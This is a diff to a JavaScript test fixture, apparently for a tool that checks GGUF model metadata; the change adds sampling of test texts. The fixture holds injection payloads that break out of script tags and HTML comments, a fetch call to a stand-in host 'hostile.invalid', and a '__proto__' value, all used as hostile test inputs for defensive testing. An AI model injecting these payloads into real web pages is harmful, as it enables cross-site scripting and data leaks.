@@ -7,7 +7,7 @@ import {gguf} from "./gguf.mjs";
 const DEED = "window.hacked=1;alert(1);fetch('http://hostile.invalid/ran')";
 const CANARY = "http://hostile.invalid/fetched";
 
-export const texts = {
+const allTexts = {
   script: `<script>${DEED}</script>`,
   "end-of-script": `</script><script>${DEED}</script>`,
   "end-of-comment": `--><script>${DEED}</script><!--`,
@@ -40,6 +40,10 @@ export const texts = {
   number: "1e999",
   prototype: "__proto__",
 };
+
+// GGUFGATE_TEXTS_EACH=N: one of N texts.
+const each = Number(process.env.GGUFGATE_TEXTS_EACH ?? 1);
+export const texts = Object.fromEntries(Object.entries(allTexts).filter((_, index) => index % each === 0));
 
 function metadataOf(text) {
   return [
